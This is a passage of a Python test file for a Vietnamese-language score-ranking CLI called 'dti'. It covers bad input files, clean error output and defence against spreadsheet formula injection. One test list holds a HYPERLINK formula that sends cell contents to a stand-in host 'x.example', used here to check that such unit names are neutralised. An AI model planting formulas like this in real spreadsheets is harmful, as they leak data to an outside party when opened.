    assert ("A", "I.1", "above_max") in kinds
    assert ("A", "I.2", "below_zero") in kinds
    assert ("A", "rank", "rank") in kinds
    rank = next(f for f in findings if f["kind"] == "rank" and f["unit"] == "A")
    assert (rank["published"], rank["expected"]) == (2, 1)


def test_check_bad_input(fw: str, tmp_path: Path) -> None:
    missing = str(tmp_path / "khong-co.csv")
    bad("check", fw, missing, names=(missing, "không tìm thấy"))

    corrupt = tmp_path / "hong.xlsx"
    corrupt.write_bytes(b"")
    bad("check", fw, str(corrupt), names=(str(corrupt), "không mở được tệp Excel"))

    garbage = tmp_path / "rac.csv"
    garbage.write_bytes(b"\x00\x01\x02unit\x00")
    bad("check", fw, str(garbage), names=(str(garbage),))

    text_cell = write(tmp_path / "chu.csv", "unit,I,II,total\nA,20,10,ba mươi\n")
    bad("check", fw, text_cell, names=(text_cell, "dòng 2, cột D", "'ba mươi'"))

    empty = write(tmp_path / "rong.csv", ",,\n,,\n")
    bad("check", fw, empty, names=(empty,))

    wrong_sheet = write_xlsx(tmp_path / "trang.xlsx", {"Bìa": [[None]], "Điểm": [["unit", "I"], ["A", 1]]})
    bad("check", fw, wrong_sheet, names=(wrong_sheet, "trang 'Bìa'"))

    extra = write(tmp_path / "o-thua.csv", "unit,I\nA,1,2\n")
    bad("check", fw, extra, names=(extra, "dòng 2, cột C"))

    bad("check", str(tmp_path / "khong-co.yaml"), write(tmp_path / "kq.csv", CLEAN), names=("khong-co.yaml",))
    broken = write(tmp_path / "hong.yaml", "format: dti/1\n")
    bad("check", broken, write(tmp_path / "kq.csv", CLEAN), names=(broken, "dti validate"))


def test_no_traceback_from_the_installed_command(tmp_path: Path) -> None:
    corrupt = tmp_path / "hong.xlsx"
    corrupt.write_bytes(b"PK\x03\x04")
    dti = ROOT / ".venv" / "bin" / "dti"
    done = subprocess.run(
        [str(dti), "rank", NINH_BINH, str(corrupt)], capture_output=True, text=True, timeout=60, check=False
    )
    assert done.returncode == 2
    assert done.stderr.startswith("dti: ")
    assert "Traceback" not in done.stderr


FORMULA_NAMES = ['=HYPERLINK("http://x.example/?leak="&A2,"Xem")', "+1", "-x", "@SUM(A1)"]


def test_rank_csv_and_xlsx_neutralise_formula_unit_names(tmp_path: Path) -> None:
    """Issue 10 §3: a unit name a spreadsheet would run is written with a leading apostrophe, read back
    by our reader as the name; numbers stay numbers. (A leading tab or CR never reaches a writer: the
    results reader trims names.)"""
    with Path(NINH_BINH_RESULTS).open(encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    renamed = dict(zip((row[0] for row in rows[1:]), FORMULA_NAMES, strict=False))
    source = tmp_path / "ket-qua.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([rows[0], *([renamed.get(row[0], row[0]), *row[1:]] for row in rows[1:])])
    code, out, _ = run("rank", NINH_BINH, str(source), "--format", "csv")
    assert code == 0
    units = [record["unit"] for record in csv.DictReader(io.StringIO(out))]
    assert {"'" + name for name in FORMULA_NAMES} <= set(units) and not set(FORMULA_NAMES) & set(units)
    written = tmp_path / "xep-hang.csv"
    written.write_text(out, encoding="utf-8")
    expected = [renamed.get(unit, unit) for unit, _, _, _ in NINH_BINH_RANKING]
    assert [row.cells["unit"].value for row in read_table(written).rows] == expected
    target = tmp_path / "xep-hang.xlsx"
    assert run("rank", NINH_BINH, str(source), "-o", str(target)) == (0, "", "")
    sheet = openpyxl.load_workbook(target).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)  # text, never a formula
    assert {"'" + name for name in FORMULA_NAMES} <= {cell.value for cell in cells}
    assert [row.cells["unit"].value for row in read_table(target).rows] == expected
    assert isinstance(sheet.cell(row=2, column=[c.value for c in sheet[1]].index("total") + 1).value, float)
